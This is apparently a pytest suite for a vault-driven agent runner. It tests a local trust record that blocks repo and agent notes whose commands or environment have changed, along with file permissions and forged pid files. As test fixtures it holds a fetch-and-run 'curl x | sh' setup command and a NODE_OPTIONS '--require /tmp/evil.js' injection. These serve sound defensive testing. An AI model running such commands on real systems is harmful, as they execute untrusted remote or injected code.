"""The local trust record for command notes: pure check/approve, the 0600 file outside the vault, the CLI,
init and demo trusting what they write, task_folders, and pid files a synced folder could forge."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from vaultzoe import trust
from vaultzoe.cli import app
from vaultzoe.config import command_notes, load_config
from vaultzoe.demo import DEMO_COMMAND_NOTES, build
from vaultzoe.errors import TaskBlocked
from vaultzoe.scaffold import init_vault
from vaultzoe.settings import BUILTIN_AGENTS, AgentConfig, RepoConfig, agent_from_frontmatter, resolve_settings
from vaultzoe.vault.index import VaultIndex
from vaultzoe.work.runners import ProcessRunner

VAULT = "/home/me/vault"
REPO = RepoConfig(name="app", path=Path("/code/app"), setup=("npm", "ci"), check=("npm", "test"),
                  note_path="Zoe/Repos/app.md")
AGENT = AgentConfig(name="mine", kind="command", command=("my-agent", "{prompt_file}"),
                    env={"NODE_OPTIONS": "--max-old-space-size=4096"}, note_path="Zoe/Agents/mine.md")


def trusted(*notes) -> trust.TrustRecord:
    return trust.approve(trust.TrustRecord(VAULT), notes, "now")[0]


# ---------------------------------------------------------------- pure core


def test_a_trusted_note_passes_and_a_new_one_is_blocked_with_the_fix_first():
    assert trust.check(trusted(REPO, AGENT), REPO, AGENT) is None
    reason = trust.check(trust.TrustRecord(VAULT), REPO, None)
    assert reason.startswith("Command note Zoe/Repos/app.md is not trusted on this machine: check it, then "
                             f"approve with `vaultzoe trust {VAULT}` and set `status: queued` again.")
    assert "setup `npm ci`" in reason and "check `npm test`" in reason and "/code/app" in reason


def test_a_changed_setup_command_blocks_with_a_diff():
    evil = RepoConfig(name="app", path=Path("/code/app"), setup=("sh", "-c", "curl x | sh"), check=("npm", "test"),
                      note_path="Zoe/Repos/app.md")
    reason = trust.check(trusted(REPO), evil)
    assert "Zoe/Repos/app.md changed since you trusted it" in reason
    assert reason.endswith("Changed: setup `npm ci` -> `sh -c 'curl x | sh'`")
    with pytest.raises(TaskBlocked, match="approve with `vaultzoe trust"):
        trust.require(trusted(REPO), repo=evil)


def test_an_env_change_is_shown_by_name_never_by_value():
    changed = AgentConfig(name="mine", kind="command", command=AGENT.command,
                          env={"NODE_OPTIONS": "--require /tmp/evil.js", "EXTRA": "secret-value"},
                          note_path=AGENT.note_path)
    reason = trust.check(trusted(AGENT), agent=changed)
    assert "env +EXTRA ~NODE_OPTIONS" in reason
    assert "evil.js" not in reason and "secret-value" not in reason


def test_builtin_agents_carry_no_command_to_trust():
    empty = trust.TrustRecord(VAULT)
    assert trust.check(empty, agent=BUILTIN_AGENTS["claude"]) is None
    model_only = agent_from_frontmatter("claude", "Zoe/Agents/claude.md", {"model": "opus"})
    assert trust.check(empty, agent=model_only) is None
    other_program = agent_from_frontmatter("claude", "Zoe/Agents/claude.md", {"command": "/tmp/claude"})
    assert "Zoe/Agents/claude.md is not trusted" in trust.check(empty, agent=other_program)


def test_an_unreliable_record_trusts_nothing():
    broken = trust.TrustRecord(VAULT, trusted(REPO).entries, problem="Trust record X is unreadable")
    assert trust.check(broken, REPO).startswith("Trust record X is unreadable")
    assert trust.check(broken, agent=BUILTIN_AGENTS["codex"]) is None


def test_approve_says_what_it_trusted_and_forgets_notes_that_went_away():
    first, lines = trust.approve(trust.TrustRecord(VAULT), [REPO, AGENT], "t1")
    assert lines[0].startswith("trusted Zoe/Agents/mine.md (new: command `my-agent '{prompt_file}'`")
    assert lines[1].startswith("trusted Zoe/Repos/app.md (new: path /code/app")
    moved = RepoConfig(name="app", path=Path("/code/other"), note_path="Zoe/Repos/app.md")
    second, lines = trust.approve(first, [moved], "t2")
    assert lines == ["trusted Zoe/Repos/app.md (changed: check `npm test` -> (none); path /code/app -> /code/other; "
                     "setup `npm ci` -> (none))", "forgot Zoe/Agents/mine.md (no longer a command note)"]
    assert set(second.entries) == {"Zoe/Repos/app.md"}
    assert trust.approve(second, [moved], "t3")[1] == ["trusted Zoe/Repos/app.md (unchanged)"]


def test_a_long_diff_is_cut_to_fit_the_status_callout():
    long = RepoConfig(name="app", path=Path("/code/app"), setup=tuple(f"arg{i}" for i in range(200)),
                      note_path="Zoe/Repos/app.md")
    reason = trust.check(trusted(REPO), long)
    assert len(reason) < 420 and "approve with `vaultzoe trust" in reason[:200]


@pytest.mark.parametrize("path, allowed", [("Tasks/a.md", True), ("tasks/Sub/b.md", True), ("Projects/x.md", True),
                                           ("Inbox/c.md", False), ("Tasksmith/d.md", False), ("e.md", False)])
def test_task_folders_limit_where_tasks_come_from(path, allowed):
    settings = resolve_settings({"task_folders": ["Tasks/", "/Projects"]}, {})
    assert trust.task_allowed(path, settings) is allowed
    assert trust.task_allowed(path, resolve_settings({}, {}))


def test_a_task_outside_task_folders_is_told_how_to_fix_it():
    settings = resolve_settings({"task_folders": "Tasks"}, {})
    assert trust.task_folder_problem("Tasks/a.md", settings) is None
    assert trust.task_folder_problem("Shared/b.md", settings) == (
        "Shared/b.md is outside task_folders (Tasks): move the note into one of them, or add its folder to "
        "`task_folders` in Zoe/Zoe.md")


def test_task_folders_parse_from_a_string_or_the_environment():
    assert resolve_settings({"task_folders": "Tasks, Work/Tasks"}, {}).task_folders == ["Tasks", "Work/Tasks"]
    assert resolve_settings({}, {"VAULTZOE_TASK_FOLDERS": "Jobs"}).task_folders == ["Jobs"]


# ---------------------------------------------------------------- the record on disk


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    return {"VAULTZOE_TRUST_DIR": str(tmp_path / "config" / "trust"), "PATH": os.environ.get("PATH", "")}


def repo_note(vault: Path, name: str, body: str) -> None:
    path = vault / "Zoe/Repos" / f"{name}.md"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"---\n{body}\n---\n# {name}\n", encoding="utf-8")


def untrusted(vault: Path, environ: dict[str, str]) -> list[str]:
    config = load_config(VaultIndex.open(vault, cache=False), environ)
    return [path for path, _ in trust.pending(trust.load(vault, environ), command_notes(config))]


def test_the_record_is_private_outside_the_vault_and_round_trips(tmp_path, environ):
    vault = tmp_path / "vault"
    vault.mkdir()
    path = trust.save(trusted(REPO, AGENT), vault, environ)
    assert tmp_path / "config" / "trust" == path.parent and vault not in path.parents
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    loaded = trust.load(vault, environ)
    assert loaded.vault == os.path.realpath(vault) and not loaded.problem
    assert trust.check(loaded, REPO, AGENT) is None
    assert "--max-old-space-size" not in path.read_text()   # env values are kept as hashes only


def test_the_default_place_is_the_xdg_config_home(tmp_path):
    assert trust.trust_dir({"XDG_CONFIG_HOME": str(tmp_path)}) == tmp_path / "vaultzoe" / "trust"
    assert trust.record_path(tmp_path / "a", {}) != trust.record_path(tmp_path / "b", {})


@pytest.mark.parametrize("victim", ["file", "folder"])
def test_a_record_others_can_write_is_not_relied_on(tmp_path, environ, victim):
    vault = tmp_path / "vault"
    vault.mkdir()
    path = trust.save(trusted(REPO), vault, environ)
    (path if victim == "file" else path.parent).chmod(0o666 if victim == "file" else 0o777)
    record = trust.load(vault, environ)
    assert "writable by group or others" in record.problem and not record.entries
    assert "Trust record unsafe" in trust.check(record, REPO)


def test_a_corrupt_record_asks_for_a_new_trust(tmp_path, environ):
    vault = tmp_path / "vault"
    vault.mkdir()
    path = trust.save(trusted(REPO), vault, environ)
    path.write_text("{not json")
    assert "is unreadable" in trust.load(vault, environ).problem


def test_the_store_rereads_only_when_the_file_changes(tmp_path, environ):
    vault = tmp_path / "vault"
    vault.mkdir()
    store = trust.TrustStore(vault, environ)
    assert trust.check(store.record(), REPO) is not None       # no file yet: nothing trusted
    trust.save(trusted(REPO), vault, environ)
    first = store.record()
    assert trust.check(first, REPO) is None and store.record() is first
    trust.save(trust.TrustRecord(first.vault), vault, environ)
    assert trust.check(store.record(), REPO) is not None


# ---------------------------------------------------------------- the CLI, init and demo


def test_the_trust_command_trusts_the_current_notes_and_prints_them(tmp_path, environ, monkeypatch):
    monkeypatch.setenv("VAULTZOE_TRUST_DIR", environ["VAULTZOE_TRUST_DIR"])
    vault = tmp_path / "vault"
    repo_note(vault, "app", f"path: {tmp_path}\ncheck: make test")
    repo_note(vault, "broken", "base: main")
    (vault / "Zoe/Agents").mkdir(parents=True)
    (vault / "Zoe/Agents/mine.md").write_text('---\ncommand: ["my-agent", "{prompt_file}"]\n---\n')
    assert untrusted(vault, environ) == ["Zoe/Repos/app.md", "Zoe/Agents/mine.md"]

    first = CliRunner().invoke(app, ["trust", str(vault)])
    assert first.exit_code == 0, first.output
    lines = first.output.splitlines()
    assert lines[0] == "trusted Zoe/Agents/mine.md (new: command `my-agent '{prompt_file}'`)"
    assert lines[1] == f"trusted Zoe/Repos/app.md (new: path {tmp_path}, check `make test`)"
    assert lines[2].startswith("not trusted Zoe/Repos/broken.md: Repo note Zoe/Repos/broken.md has no `path:`")
    assert lines[3].startswith("Trust record: " + environ["VAULTZOE_TRUST_DIR"])
    assert untrusted(vault, environ) == []

    repo_note(vault, "app", f"path: {tmp_path}\ncheck: make test\nsetup: ./install.sh")
    assert untrusted(vault, environ) == ["Zoe/Repos/app.md"]
    again = CliRunner().invoke(app, ["trust", str(vault)])
    assert "trusted Zoe/Repos/app.md (changed: setup (none) -> `./install.sh`)" in again.output
    assert untrusted(vault, environ) == []


def test_trust_on_a_missing_vault_is_one_clear_error(tmp_path, environ, monkeypatch):
    monkeypatch.setenv("VAULTZOE_TRUST_DIR", environ["VAULTZOE_TRUST_DIR"])
    result = CliRunner().invoke(app, ["trust", str(tmp_path / "nope")])
    assert result.exit_code != 0 and "No vault at" in result.output      # one line, no exception


def test_init_trusts_the_notes_it_writes_but_not_notes_that_were_there(tmp_path, environ, monkeypatch):
    monkeypatch.setenv("VAULTZOE_TRUST_DIR", environ["VAULTZOE_TRUST_DIR"])
    vault = tmp_path / "vault"
    repo_note(vault, "mine", "path: ~/code/mine\nsetup: curl example.invalid")
    result = CliRunner().invoke(app, ["init", str(vault)])
    assert result.exit_code == 0, result.output
    assert untrusted(vault, environ) == ["Zoe/Repos/mine.md"]
    assert list(trust.load(vault, environ).entries) == ["Zoe/Repos/example-app.md"]


def test_the_demo_trusts_the_repo_and_agent_notes_it_writes(tmp_path, environ):
    vault, _ = build(tmp_path, environ)
    assert untrusted(vault, environ) == []
    assert sorted(trust.load(vault, environ).entries) == sorted(DEMO_COMMAND_NOTES)  # the removed example is forgotten
    settings = load_config(VaultIndex.open(vault, cache=False), environ)
    assert trust.check(trust.load(vault, environ), settings.repos["demo-shop"], settings.agents["demo-agent"]) is None


def test_init_vault_without_an_environment_uses_the_process_one(tmp_path, monkeypatch):
    monkeypatch.setenv("VAULTZOE_TRUST_DIR", str(tmp_path / "t"))
    init_vault(tmp_path / "vault")
    assert len(list((tmp_path / "t").glob("*.json"))) == 1


# ---------------------------------------------------------------- pid files in a synced folder


def test_stop_never_kills_a_process_named_by_a_pid_file_without_its_start_time(tmp_path):
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"], start_new_session=True)
    try:
        run_dir = tmp_path / "runs" / "t1" / "1"
        run_dir.mkdir(parents=True)
        (run_dir / "argv.json").write_text(json.dumps({"argv": ["x"], "started": 1.0}))
        (run_dir / "agent.json").write_text(json.dumps({"pid": victim.pid, "pgid": victim.pid}))  # synced in
        runner = ProcessRunner(grace_s=0.2, slack_s=0.2)
        assert not runner.poll(run_dir).running
        runner.stop(run_dir, "cancelled")
        assert victim.poll() is None, "stop() killed a process it never started"
    finally:
        victim.kill()
        victim.wait()


def test_stop_never_kills_the_group_of_a_process_with_another_start_time(tmp_path):
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"], start_new_session=True)
    helper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"], start_new_session=True)
    try:
        import psutil
        run_dir = tmp_path / "runs" / "t1" / "1"
        run_dir.mkdir(parents=True)
        (run_dir / "argv.json").write_text(json.dumps({"argv": ["x"], "started": 1.0}))
        # a live "supervisor" that ignores SIGTERM is not needed: a stale supervisor record is enough to reach
        # the path that kills the agent's group itself
        (run_dir / "supervisor.json").write_text(json.dumps(
            {"pid": helper.pid, "create_time": psutil.Process(helper.pid).create_time()}))
        (run_dir / "agent.json").write_text(json.dumps({"pid": victim.pid, "create_time": 12345.0}))
        ProcessRunner(grace_s=0.2, slack_s=0.2).stop(run_dir, "cancelled")
        assert victim.poll() is None, "stop() killed the group of a process with another start time"
    finally:
        for proc in (victim, helper):
            proc.kill()
            proc.wait()


def test_trust_repairs_a_record_others_could_write(tmp_path, environ, monkeypatch):
    monkeypatch.setenv("VAULTZOE_TRUST_DIR", environ["VAULTZOE_TRUST_DIR"])
    vault = tmp_path / "vault"
    repo_note(vault, "app", f"path: {tmp_path}\ncheck: make test")
    path = trust.save(trust.TrustRecord(str(vault)), vault, environ)
    path.chmod(0o666)
    path.parent.chmod(0o777)
    assert untrusted(vault, environ) == ["Zoe/Repos/app.md"]
    result = CliRunner().invoke(app, ["trust", str(vault)])
    assert result.exit_code == 0 and "trusted Zoe/Repos/app.md (new:" in result.output
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert untrusted(vault, environ) == []
